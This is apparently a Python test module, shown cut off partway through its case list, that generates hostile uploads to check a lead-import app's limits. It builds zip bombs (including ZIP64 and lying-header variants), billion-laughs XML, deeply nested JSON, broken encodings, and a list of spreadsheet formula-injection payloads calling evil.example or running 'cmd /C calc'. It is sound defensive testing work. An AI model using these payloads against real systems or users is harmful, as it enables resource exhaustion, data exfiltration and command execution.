"""A corpus of hostile uploads, made at test time (nothing big is committed), and a worker that
imports them one by one in its own process and reports what happened and its peak memory.

Every case is a function of a size ("quick" for the unmarked tests, "long" for the full-size
ones) giving (file name, bytes). `CASES` says, for each, what kind of import the app runs on it
("leads": `workshop.importer.read_export`, the evidence page's upload; "definition":
`workshop.definition.read_file`, the step 1 and step 3 upload; "mapping":
`workshop.mapping.Mapping.from_json`, the command line's --mapping), a fragment of the message a
person must see and, where the file is fine, that it is read ("ok").

    python -m tests.hostile_files CASE[:SIZE] ...   # one JSON line per case, on stdout

runs cases in one process; before each, the peak resident memory is reset (/proc/self/clear_refs)
so that each line's "peak_mb" is that case's own high-water mark.
"""
from __future__ import annotations

import gzip
import io
import json
import re
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass

MB = 1024 * 1024
GB = 1024 * MB
ZIP_TIME = (2025, 1, 1, 0, 0, 0)

# --- a minimal workbook, part by part ---------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
    b'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Leads" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    b'<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>')
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
              b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
SHEET_TAIL = b"</sheetData></worksheet>"
STRINGS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2" '
           b'uniqueCount="2"><si><t>Email</t></si><si><t>Company</t></si></sst>')


def sheet_xml(rows: Iterable[bytes] = (), dimension: str = "") -> bytes:
    """A worksheet whose <sheetData> holds `rows` (each a <row> element)."""
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    return SHEET_HEAD + dim + b"<sheetData>" + b"".join(rows) + SHEET_TAIL


def row_xml(number: int, *cells: tuple[str, str]) -> bytes:
    """<row> with inline-string cells (reference, text)."""
    inner = b"".join(f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()
                     for ref, text in cells)
    return f'<row r="{number}">'.encode() + inner + b"</row>"


GOOD_SHEET = sheet_xml([
    b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
    row_xml(2, ("A2", "a@acme.com"), ("B2", "Acme")),
    row_xml(3, ("A3", "b@beta.com"), ("B3", "Beta")),
])


SHEET, SHARED = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"


def workbook_parts(replace: dict[str, bytes] | None = None) -> dict[str, bytes]:
    """The parts of a small, valid workbook (two leads), some replaced by `replace`."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, "_rels/.rels": ROOT_RELS,
             "xl/workbook.xml": WORKBOOK, "xl/_rels/workbook.xml.rels": WORKBOOK_RELS,
             SHEET: GOOD_SHEET, SHARED: STRINGS}
    parts.update(replace or {})
    return parts


def zip_bytes(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_TIME), body,
                             compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


# --- zip bombs, written by hand ---------------------------------------------------------------

@dataclass
class RawMember:
    """A zip member given as its deflate stream: `size` is what it unpacks to (as declared in
    the headers, unless `declared` says otherwise), `crc` its CRC-32."""

    name: str
    stream: bytes
    size: int
    crc: int
    declared: int | None = None


def deflated(data: bytes) -> RawMember:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return RawMember("", packer.compress(data) + packer.flush(), len(data), zlib.crc32(data))


def repeated_stream(prefix: bytes, filler: bytes, copies: int, suffix: bytes) -> RawMember:
    """`prefix`, `filler` `copies` times, then `suffix`, as one deflate stream, built from one
    compressed copy of `filler` (a full flush makes every copy compress to the same bytes), so
    a 10 GB member costs a few megabytes and a second to make."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(filler) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(suffix) + packer.flush()
    crc = zlib.crc32(prefix)
    crc = _crc_repeat(crc, filler, copies)
    crc = zlib.crc32(suffix, crc)
    return RawMember("", head + block * copies + tail,
                     len(prefix) + len(filler) * copies + len(suffix), crc)


def _crc_repeat(crc: int, data: bytes, copies: int) -> int:
    """CRC-32 after `data` `copies` more times, without feeding gigabytes through zlib: the CRC
    update for a fixed block is affine over GF(2), so it is squared like a power."""
    def step(value: int) -> int:
        return zlib.crc32(data, value)

    zero = step(0)
    # step(v) = L(v) ^ zero with L linear; L as 32 images of the unit vectors.
    matrix = [step(1 << bit) ^ zero for bit in range(32)]

    def apply(m: list[int], value: int) -> int:
        out = 0
        bit = 0
        while value:
            if value & 1:
                out ^= m[bit]
            value >>= 1
            bit += 1
        return out

    def compose(a: list[int], b: list[int]) -> list[int]:  # a after b
        return [apply(a, column) for column in b]

    # (L, c) represents v -> L(v) ^ c; squaring: (L∘L, L(c) ^ c).
    result_m, result_c = [1 << bit for bit in range(32)], 0
    power_m, power_c = matrix, zero
    while copies:
        if copies & 1:
            result_m, result_c = compose(power_m, result_m), apply(power_m, result_c) ^ power_c
        power_m, power_c = compose(power_m, power_m), apply(power_m, power_c) ^ power_c
        copies >>= 1
    return apply(result_m, crc) ^ result_c


def raw_zip(members: list[RawMember], encrypted: bool = False) -> bytes:
    """A zip of deflated members, with ZIP64 sizes where a member is over 4 GB."""
    out = bytearray()
    central = bytearray()
    flags = 0x1 if encrypted else 0
    dos_time, dos_date = 0, (45 << 9) | (1 << 5) | 1
    for member in members:
        name = member.name.encode()
        size = member.size if member.declared is None else member.declared
        big = size >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, size, len(member.stream)) if big else b""
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 45 if big else 20, flags, 8, dos_time,
                           dos_date, member.crc, 0xFFFFFFFF if big else len(member.stream),
                           0xFFFFFFFF if big else size, len(name), len(extra))
        out += name + extra + member.stream
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45 if big else 20, flags,
                               8, dos_time, dos_date, member.crc,
                               0xFFFFFFFF if big else len(member.stream),
                               0xFFFFFFFF if big else size, len(name), len(extra), 0, 0, 0, 0,
                               offset)
        central += name + extra
    start = len(out)
    out += central
    count = len(members)
    if count > 0xFFFF:  # ZIP64 end of central directory, then its locator
        end64 = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count,
                           len(central), start)
        out += struct.pack("<IIQI", 0x07064B50, 0, end64, 1)
        count = 0xFFFF
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), start, 0)
    return bytes(out)


def bomb_workbook(part: str, member: RawMember, declared: int | None = None) -> bytes:
    """A workbook whose `part` is `member`; the other parts are ordinary."""
    members = []
    for name, body in workbook_parts().items():
        if name == part:
            raw = member
        else:
            raw = deflated(body)
        raw.name = name
        members.append(raw)
    if declared is not None:
        next(m for m in members if m.name == part).declared = declared
    return raw_zip(members)


def _gigabytes(size: str) -> int:
    return 12 if size == "long" else 2


def xlsx_sheet_bomb(size: str) -> tuple[str, bytes]:
    """The sheet XML unpacks to 2 GB (quick) or 12 GB (long, ZIP64) of blank rows; the file is
    a few megabytes and says how big it unpacks (as an honest zip does)."""
    copies = _gigabytes(size) * 1024
    member = repeated_stream(SHEET_HEAD + b"<sheetData>", b" " * MB, copies, SHEET_TAIL)
    return "leads.xlsx", bomb_workbook("xl/worksheets/sheet1.xml", member)


def xlsx_sheet_bomb_lying(size: str) -> tuple[str, bytes]:
    """The same bomb, but the zip headers claim the sheet unpacks to 40 KB."""
    copies = _gigabytes(size) * 1024
    rows = b"".join(row_xml(i, (f"A{i}", "x" * 40)) for i in range(2, 50))
    member = repeated_stream(SHEET_HEAD + b"<sheetData>" + rows, b"<!--" + b"-" * 0 + b" "
                             * (MB - 7) + b"-->", copies, SHEET_TAIL)
    return "leads.xlsx", bomb_workbook("xl/worksheets/sheet1.xml", member, declared=40_000)


def xlsx_strings_bomb(size: str) -> tuple[str, bytes]:
    """sharedStrings.xml unpacks to gigabytes: one string of spaces."""
    copies = _gigabytes(size) * 1024
    head = STRINGS.split(b"</sst>")[0] + b"<si><t>"
    member = repeated_stream(head, b" " * MB, copies, b"</t></si></sst>")
    return "leads.xlsx", bomb_workbook("xl/sharedStrings.xml", member)


def xlsx_ratio_bomb(size: str) -> tuple[str, bytes]:
    """A sheet of 50 MB (long: 500 MB) of one repeated row: under the total limit, but packed
    far tighter than a real sheet ever is."""
    copies = 500 if size == "long" else 50
    member = repeated_stream(SHEET_HEAD + b"<sheetData>", b"<row/>" * (MB // 6) + b" " * (MB % 6),
                             copies, SHEET_TAIL)
    return "leads.xlsx", bomb_workbook("xl/worksheets/sheet1.xml", member)


def xlsx_many_members(size: str) -> tuple[str, bytes]:
    """A workbook with 100,000 (long: 1,000,000) empty extra parts."""
    count = 1_000_000 if size == "long" else 100_000
    members = []
    for name, body in workbook_parts().items():
        member = deflated(body)
        member.name = name
        members.append(member)
    empty = deflated(b"")
    members += [RawMember(f"x/{i}", empty.stream, 0, empty.crc) for i in range(count)]
    return "leads.xlsx", raw_zip(members)


def xlsx_billion_laughs(size: str) -> tuple[str, bytes]:
    """Entity expansion in the shared strings (the 'billion laughs')."""
    levels = 10 if size == "long" else 9
    entities = ['<!ENTITY a0 "laugh">'] + [
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, levels + 1)]
    doctype = f"<!DOCTYPE sst [{''.join(entities)}]>".encode()
    body = (b'<?xml version="1.0" encoding="UTF-8"?>' + doctype
            + b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            + f"<si><t>&a{levels};</t></si><si><t>Company</t></si></sst>".encode())
    return "leads.xlsx", zip_bytes(workbook_parts({SHARED: body}))


def xlsx_far_cells(size: str) -> tuple[str, bytes]:
    """Tiny sheet that claims the whole grid (A1:XFD1048576) and has a cell in its last row:
    a reader that trusts it fills in a million rows of 16,384 empty cells. Read: two leads (the
    far cell is beyond the columns looked at)."""
    rows = [b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
            row_xml(2, ("A2", "a@acme.com"), ("B2", "Acme")),
            row_xml(1_048_576, ("XFD1048576", "far away"))]
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows, "A1:XFD1048576")}))


def xlsx_too_wide(size: str) -> tuple[str, bytes]:
    """A header of 2,500 columns."""
    from openpyxl.utils import get_column_letter

    header = [(f"{get_column_letter(i)}1", f"Field {i}") for i in range(1, 2501)]
    rows = [row_xml(1, *header), row_xml(2, ("A2", "a@acme.com"))]
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows)}))


def xlsx_wide_blank_rows(size: str) -> tuple[str, bytes]:
    """Every row has one empty cell in column XFD: 20,000 (long: 1,000,000) such rows."""
    count = 1_000_000 if size == "long" else 20_000
    rows = [b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>']
    rows += [f'<row r="{i}"><c r="XFD{i}"/></row>'.encode() for i in range(2, count + 2)]
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows)}))


def xlsx_huge_row_number(size: str) -> tuple[str, bytes]:
    """A second row numbered 2,000,000,000: a reader that fills in missing rows never ends."""
    rows = [b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
            row_xml(2_000_000_000, ("A2000000000", "a@acme.com"))]
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows)}))


def xlsx_not_zip(size: str) -> tuple[str, bytes]:
    """Text named .xlsx that is neither a workbook nor a CSV."""
    return "leads.xlsx", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 64


def xlsx_truncated_zip(size: str) -> tuple[str, bytes]:
    """A workbook cut in half (a broken download)."""
    data = zip_bytes(workbook_parts())
    return "leads.xlsx", data[: len(data) // 2]


def xlsx_zip_encrypted(size: str) -> tuple[str, bytes]:
    """A workbook whose parts are marked encrypted (zip password)."""
    members = []
    for name, body in workbook_parts().items():
        member = deflated(body)
        member.name = name
        members.append(member)
    return "leads.xlsx", raw_zip(members, encrypted=True)


def xlsx_password_protected(size: str) -> tuple[str, bytes]:
    """What Excel writes for 'Encrypt with password': an OLE compound file holding an
    EncryptedPackage stream (only the parts a reader looks at)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 16 + struct.pack(
        "<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\x00" * 470
    directory = bytearray(512)
    for slot, name in enumerate(("Root Entry", "EncryptionInfo", "EncryptedPackage")):
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        directory[slot * 128: slot * 128 + len(encoded)] = encoded
        struct.pack_into("<H", directory, slot * 128 + 64, len(encoded))
    return "leads.xlsx", header + bytes(directory) + bytes(range(256)) * 8


def xlsx_no_sheets(size: str) -> tuple[str, bytes]:
    """A workbook without a single worksheet."""
    workbook = WORKBOOK.replace(b'<sheets><sheet name="Leads" sheetId="1" r:id="rId1"/></sheets>',
                                b"<sheets/>")
    return "leads.xlsx", zip_bytes(workbook_parts({"xl/workbook.xml": workbook}))


def xlsx_broken_sheet_xml(size: str) -> tuple[str, bytes]:
    """The sheet is not XML."""
    broken = b"<worksheet><sheetData><row><c>\x00\xff"
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: broken}))


def xlsx_sheet_breaks_late(size: str) -> tuple[str, bytes]:
    """A sheet whose XML breaks off after 20,000 good rows (seen only while rows are read)."""
    rows = [b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>']
    rows += [row_xml(i, (f"A{i}", f"lead{i}@x.com"), (f"B{i}", "Acme")) for i in range(2, 20_000)]
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows)[:-40] + b"<c><<"}))


def xlsx_bad_cell_values(size: str) -> tuple[str, bytes]:
    """A number cell that is not a number and a date cell that is not a date."""
    rows = [b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>',
            b'<row r="2"><c r="A2" t="n"><v>twelve</v></c><c r="B2" t="d"><v>soon</v></c></row>',
            b'<row r="3"><c r="A3" t="s"><v>99</v></c><c r="B3" t="b"><v>maybe</v></c></row>']
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows)}))


def xlsx_chart_only(size: str) -> tuple[str, bytes]:
    """A workbook whose only sheet is a chart sheet."""
    workbook = WORKBOOK_RELS.replace(b"relationships/worksheet", b"relationships/chartsheet")
    parts = workbook_parts({"xl/_rels/workbook.xml.rels": workbook.replace(
        b"worksheets/sheet1.xml", b"chartsheets/sheet1.xml")})
    parts["xl/chartsheets/sheet1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8"?><chartsheet xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><sheetPr/><sheetViews><sheetView '
        b'workbookViewId="0"/></sheetViews></chartsheet>')
    del parts[SHEET]
    return "leads.xlsx", zip_bytes(parts)


def xlsx_formula_payloads(size: str) -> tuple[str, bytes]:
    """A workbook whose cells hold spreadsheet formulas as text (read, made inert on export)."""
    rows = [b'<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="s"><v>1</v></c></row>']
    rows += [row_xml(i + 2, (f"A{i + 2}", f"p{i}@x.com"), (f"B{i + 2}", payload))
             for i, payload in enumerate(xml_escape(p) for p in FORMULAS)]
    return "leads.xlsx", zip_bytes(workbook_parts({SHEET: sheet_xml(rows)}))


def xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


# --- CSV --------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            '=WEBSERVICE("http://evil.example")', "=1+1", "-5", "+1 555 0100"]


def csv_bytes(rows: list[list[str]]) -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode()


def csv_huge_cell(size: str) -> tuple[str, bytes]:
    """One unquoted cell of 10 MB (long: 100 MB)."""
    cell = (100 if size == "long" else 10) * MB
    return "leads.csv", b"Email,Notes\r\na@acme.com,short\r\nb@acme.com," + b"x" * cell + b"\r\n"


def csv_huge_cell_far_down(size: str) -> tuple[str, bytes]:
    """A 3 MB value after 50,000 ordinary rows (its row number must be right)."""
    rows = b"".join(b"lead%d@x.com,Acme\r\n" % i for i in range(50_000))
    return "leads.csv", b"Email,Notes\r\n" + rows + b"z@x.com," + b"y" * (3 * MB) + b"\r\n"


def csv_huge_quoted_cell(size: str) -> tuple[str, bytes]:
    """One quoted cell of 10 MB (long: 100 MB) full of line breaks."""
    cell = (100 if size == "long" else 10) * MB
    return "leads.csv", (b'Email,Notes\r\na@acme.com,"' + b"line\r\n" * (cell // 6)
                         + b'"\r\nb@acme.com,short\r\n')


def csv_wide_header(size: str) -> tuple[str, bytes]:
    """A header of 200,000 (long: 3,000,000) columns, and one row as wide."""
    count = 3_000_000 if size == "long" else 200_000
    header = b",".join(b"c%d" % i for i in range(count))
    return "leads.csv", header + b"\r\n" + b"1," * (count - 1) + b"1\r\n"


def csv_wide_row(size: str) -> tuple[str, bytes]:
    """A normal header, and a row of 200,000 (long: 3,000,000) values."""
    count = 3_000_000 if size == "long" else 200_000
    return "leads.csv", b"Email,Company\r\na@acme.com,Acme\r\n" + b"x," * count + b"x\r\n"


def csv_many_rows(size: str) -> tuple[str, bytes]:
    """1,200,000 (long: 20,000,000) rows of one character."""
    count = 20_000_000 if size == "long" else 1_200_000
    return "leads.csv", b"Id\n" + b"1\n" * count


def csv_no_line_breaks(size: str) -> tuple[str, bytes]:
    """5 MB (long: 150 MB) on one line without a single separator."""
    length = (150 if size == "long" else 5) * MB
    return "leads.csv", b"a" * length


def csv_nul_bytes(size: str) -> tuple[str, bytes]:
    return "leads.csv", b"Email,Company\r\na@acme.com,Ac\x00me\r\n"


def csv_nul_far_down(size: str) -> tuple[str, bytes]:
    """A NUL byte after 1 MB of ordinary rows."""
    rows = b"".join(b"lead%d@x.com,Acme %d\r\n" % (i, i) for i in range(60_000))
    return "leads.csv", b"Email,Company\r\n" + rows + b"z@x.com,Ze\x00ta\r\n"


def csv_invalid_utf8(size: str) -> tuple[str, bytes]:
    """Bytes that are no UTF-8 (read as Windows-1252, where every byte is a character)."""
    return "leads.csv", b"Email,Company\r\na@acme.com,Caf\xe9 \xff\xfe\r\nb@b.com,\xc3\x28\r\n"


def csv_mixed_encodings(size: str) -> tuple[str, bytes]:
    """UTF-8 at the start, Windows-1252 after the first 64 KB."""
    rows = "".join(f"lead{i}@x.com,Zürich {i}\r\n" for i in range(3000)).encode()
    return "leads.csv", b"Email,City\r\n" + rows + "z@x.com,Zürich\r\n".encode("cp1252")


def csv_utf16_bom(size: str) -> tuple[str, bytes]:
    return "leads.csv", "Email,Company\r\na@acme.com,Société\r\n".encode("utf-16")


def csv_utf16_bom_broken(size: str) -> tuple[str, bytes]:
    """A UTF-16 BOM followed by an odd number of bytes and a lone surrogate."""
    body = "Email,Company\r\na@acme.com,".encode("utf-16-le") + b"\x00\xd8" + b"\x41"
    return "leads.csv", b"\xff\xfe" + body


def csv_utf16_no_bom(size: str) -> tuple[str, bytes]:
    return "leads.csv", "Email,Company\r\na@acme.com,Acme\r\n".encode("utf-16-le")


def csv_utf16_be_no_bom(size: str) -> tuple[str, bytes]:
    return "leads.csv", "Email,Company\r\na@acme.com,Acme\r\n".encode("utf-16-be")


def csv_utf32(size: str) -> tuple[str, bytes]:
    return "leads.csv", "Email,Company\r\na@acme.com,Acme\r\n".encode("utf-32")


def csv_utf8_bom_then_utf16(size: str) -> tuple[str, bytes]:
    """A UTF-8 BOM, then UTF-16 text: two encodings in one file."""
    return "leads.csv", b"\xef\xbb\xbf" + "Email,Company\r\na@x.com,Acme\r\n".encode("utf-16-le")


def csv_formula_payloads(size: str) -> tuple[str, bytes]:
    """Cells (and a header) that a spreadsheet would run as formulas: read as the text they
    are; wherever the app writes lead data back out they must come out inert."""
    rows = [["Email", "Company", "=HYPERLINK(\"http://evil.example\",\"Notes\")"]]
    rows += [[f"p{i}@x.com", payload, payload] for i, payload in enumerate(FORMULAS)]
    return "leads.csv", csv_bytes(rows)


def csv_empty(size: str) -> tuple[str, bytes]:
    return "leads.csv", b""


def csv_only_bom(size: str) -> tuple[str, bytes]:
    return "leads.csv", b"\xef\xbb\xbf"


def csv_header_only(size: str) -> tuple[str, bytes]:
    return "leads.csv", b"Email,Company,Industry\r\n"


def csv_binary_garbage(size: str) -> tuple[str, bytes]:
    data = bytes((i * 7919 + 13) % 256 for i in range(64 * 1024))
    return "leads.csv", data


def csv_gzip_renamed(size: str) -> tuple[str, bytes]:
    rows = b"".join(b"lead%d@x.com,Acme\r\n" % i for i in range(5000))
    return "leads.csv", gzip.compress(b"Email,Company\r\n" + rows, mtime=0)


def csv_only_quotes(size: str) -> tuple[str, bytes]:
    return "leads.csv", b'"' * 100_001


def csv_control_characters(size: str) -> tuple[str, bytes]:
    """Escape sequences and other control characters in cells."""
    rows = b"".join(b"lead%d@x.com,Acme %d\r\n" % (i, i) for i in range(300))
    return "leads.csv", (b"Email,Company\r\na@acme.com,\x1b[31mRed\x1b[0m\x07\x08\r\n" + rows)


def csv_bidi_and_zero_width(size: str) -> tuple[str, bytes]:
    """Right-to-left overrides and zero-width characters: text like any other."""
    return "leads.csv", ("Email,Company\r\na@acme.com,\u202eelgoog\u202c\u200b\r\n"
                         "b@b.com,\ufeffAcme\u2066x\u2069\r\n").encode()


def csv_sep_hint_only(size: str) -> tuple[str, bytes]:
    return "leads.csv", b"sep=;\r\n"


# --- definition and mapping JSON ---------------------------------------------------------------

def json_deep_list(size: str) -> tuple[str, bytes]:
    depth = 1_000_000 if size == "long" else 100_000
    return "definition.json", b"[" * depth + b"]" * depth


def json_deep_object(size: str) -> tuple[str, bytes]:
    depth = 1_000_000 if size == "long" else 100_000
    return "definition.json", b'{"a":' * depth + b"1" + b"}" * depth


def json_deep_in_notes(size: str) -> tuple[str, bytes]:
    depth = 100_000
    return "definition.json", b'{"notes": {"pain": ' + b"[" * depth + b"]" * depth + b"}}"


def json_unclosed_deep(size: str) -> tuple[str, bytes]:
    return "definition.json", b"[" * 100_000


def json_huge_note(size: str) -> tuple[str, bytes]:
    """A definition whose note is 5 MB (long: 150 MB) of text."""
    length = (150 if size == "long" else 5) * MB
    return "definition.json", b'{"notes": {"pain": "' + b"x" * length + b'"}}'


def json_many_criteria(size: str) -> tuple[str, bytes]:
    """20,000 (long: 500,000) criteria."""
    count = 500_000 if size == "long" else 20_000
    one = b'{"field": "industry", "op": "in", "values": ["Software"]}'
    return "definition.json", b'{"criteria": [' + b",".join([one] * count) + b"]}"


def json_wrong_types(size: str) -> tuple[str, bytes]:
    return "definition.json", json.dumps({
        "criteria": [{"field": ["industry"], "op": 5, "values": "Software", "low": "ten",
                      "points": "3"}],
        "actions": {"demo": 30}, "threshold": "50", "notes": ["pain"]}).encode()


def json_duplicate_keys(size: str) -> tuple[str, bytes]:
    """The same key twice: the last one counts (as in every JSON reader), still validated."""
    return "definition.json", (b'{"threshold": 10, "threshold": -5, '
                               b'"criteria": [], "criteria": "x"}')


def json_nan_infinity(size: str) -> tuple[str, bytes]:
    return "definition.json", (b'{"criteria": [{"field": "employees", "op": "between", '
                               b'"low": NaN, "high": Infinity}], "threshold": NaN}')


def json_enormous_numbers(size: str) -> tuple[str, bytes]:
    return "definition.json", (b'{"threshold": ' + b"9" * 100_000 + b', "criteria": '
                               b'[{"field": "employees", "op": "at_least", "low": 1e999999}]}')


def json_enormous_int_points(size: str) -> tuple[str, bytes]:
    return "definition.json", b'{"actions": [{"field": "demo", "points": 1' + b"0" * 5000 + b"}]}"


def json_not_json(size: str) -> tuple[str, bytes]:
    return "definition.json", b"Meeting notes, not a definition\n\x00\xff\xfe"


def json_invalid_utf8(size: str) -> tuple[str, bytes]:
    return "definition.json", b'{"notes": {"pain": "caf\xe9 \xff"}}'


def json_lone_surrogate_escape(size: str) -> tuple[str, bytes]:
    """A lone surrogate written as a JSON escape (valid JSON, not valid Unicode text)."""
    return "definition.json", (b'{"notes": {"pain": "x\\ud800y"}, "criteria": [{"field": '
                               b'"industry", "op": "in", "values": ["\\udfff"]}]}')


def json_nul_escape(size: str) -> tuple[str, bytes]:
    """NUL characters (as JSON escapes) in a note and a value: text like any other."""
    return "definition.json", (b'{"notes": {"pain": "a\\u0000b"}, "criteria": [{"field": '
                               b'"industry", "op": "in", "values": ["Soft\\u0000ware"]}]}')


def json_utf16(size: str) -> tuple[str, bytes]:
    return "definition.json", '{"threshold": 10}'.encode("utf-16")


def json_empty(size: str) -> tuple[str, bytes]:
    return "definition.json", b""


def json_top_level_string(size: str) -> tuple[str, bytes]:
    return "definition.json", b'"just a string"'


def json_formula_values(size: str) -> tuple[str, bytes]:
    """A valid definition whose texts are spreadsheet formulas and Markdown/HTML: read as the
    text they are, inert in every export."""
    return "definition.json", json.dumps({
        "criteria": [{"field": "industry", "op": "in", "values": FORMULAS[:4]},
                     {"field": "=cmd|' /C calc'!A0", "op": "in", "values": ["<script>x</script>"],
                      "role": "disqualifier"}],
        "notes": {"pain": "=HYPERLINK(\"http://evil.example\")"}}).encode()


# mapping JSON: the command line's --mapping (and the mapping stored with an upload)

def mapping_deep(size: str) -> tuple[str, bytes]:
    depth = 1_000_000 if size == "long" else 100_000
    return "mapping.json", b"[" * depth + b"]" * depth


def mapping_deep_object(size: str) -> tuple[str, bytes]:
    return "mapping.json", b'{"columns": ' + b'{"a":' * 100_000 + b"1" + b"}" * 100_001


def mapping_wrong_types(size: str) -> tuple[str, bytes]:
    return "mapping.json", b'{"columns": {"Email": 5}, "won_values": "Won"}'


def mapping_huge_int_version(size: str) -> tuple[str, bytes]:
    return "mapping.json", b'{"schema_version": ' + b"9" * 100_000 + b"}"


def mapping_nan(size: str) -> tuple[str, bytes]:
    return "mapping.json", b'{"schema_version": NaN, "columns": {}}'


def mapping_not_json(size: str) -> tuple[str, bytes]:
    return "mapping.json", b"\xff\xfe\x00garbage"


def mapping_duplicate_keys(size: str) -> tuple[str, bytes]:
    return "mapping.json", b'{"columns": {"Email": "email"}, "columns": [1]}'


# --- the cases ---------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[str], tuple[str, bytes]]
    kind: str  # "leads", "definition" or "mapping"
    expect: str  # a fragment of the message, or "ok" when the file must be read
    long: bool = False  # True: the full size only runs in the long set
    peak_mb: int = 600  # peak resident memory allowed above the input's own size, in MB

    def __str__(self) -> str:
        return self.name


CASES = [
    # workbooks
    Case("xlsx_sheet_bomb", xlsx_sheet_bomb, "leads", "unpacks to far more data", long=True),
    Case("xlsx_sheet_bomb_lying", xlsx_sheet_bomb_lying, "leads", "could not be opened",
         long=True),
    Case("xlsx_strings_bomb", xlsx_strings_bomb, "leads", "unpacks to far more data", long=True),
    Case("xlsx_ratio_bomb", xlsx_ratio_bomb, "leads", "unpacks to far more data", long=True),
    Case("xlsx_many_members", xlsx_many_members, "leads", "more than 10,000 parts", long=True),
    Case("xlsx_billion_laughs", xlsx_billion_laughs, "leads", "could not be opened", long=True),
    Case("xlsx_far_cells", xlsx_far_cells, "leads", "ok"),
